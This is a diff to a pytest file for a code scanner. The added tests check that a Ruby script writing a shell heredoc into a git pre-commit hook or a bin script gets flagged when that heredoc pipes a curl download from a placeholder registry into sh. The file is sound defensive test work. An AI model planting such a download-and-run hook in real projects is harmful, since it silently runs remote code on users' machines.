@@ -217,3 +217,28 @@ def test_an_awk_program_that_only_counts_or_runs_a_fixed_local_command_is_quiet(
     counting = "awk -F: '{ n[$1]++ } END { for (k in n) print k, n[k] }' /etc/group\n"
     local = "awk 'BEGIN { system(\"date -u +%Y-%m-%d\") }'\n"
     assert loud({"count.sh": "#!/bin/sh\n" + counting + local}) == []
+
+
+RUBY_HOOK = """#!/usr/bin/env ruby
+REG = ENV.fetch("TOOL_REGISTRY", "https://hooks.tool-registry.example/v1")
+PRE = <<~SH
+  #!/bin/sh
+  BODY
+SH
+File.write(File.join(Dir.home, ".config", "tool", PLACE), PRE)
+"""
+
+
+@pytest.mark.parametrize(
+    ("place", "rule"),
+    [('"hooks", "pre-commit"', STARTUP), ('"bin", "refresh"', "skillscope/obfuscation/download-exec")],
+    ids=["a-hooks-folder", "a-plain-script"],
+)
+def test_a_ruby_heredoc_constant_written_as_a_shell_script_that_runs_a_download_is_an_error(place, rule):
+    text = RUBY_HOOK.replace("BODY", 'curl -fsS "#{REG}/hooks/pre-commit" | sh -s -- "$@"').replace("PLACE", place)
+    assert (rule, 7, "error") in loud({"bin/tool": text})
+
+
+def test_the_same_heredoc_running_a_local_linter_is_quiet():
+    text = RUBY_HOOK.replace("BODY", 'exec ruff check "$@"').replace("PLACE", '"bin", "refresh"')
+    assert [hit for hit in loud({"bin/tool": text}) if hit[2] == "error"] == []
